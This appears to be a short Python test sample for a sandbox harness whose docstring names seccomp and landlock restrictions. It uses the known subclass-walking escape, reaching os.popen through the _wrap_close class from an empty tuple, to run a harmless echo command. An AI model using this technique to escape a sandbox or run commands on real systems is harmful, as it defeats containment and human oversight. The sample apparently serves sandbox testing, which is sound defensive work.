"""Reaches the operating system from an empty tuple.

walls: seccomp landlock
"""

for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        breach(kind.__init__.__globals__["popen"]("echo a shell ran").read() or 0 / 0)
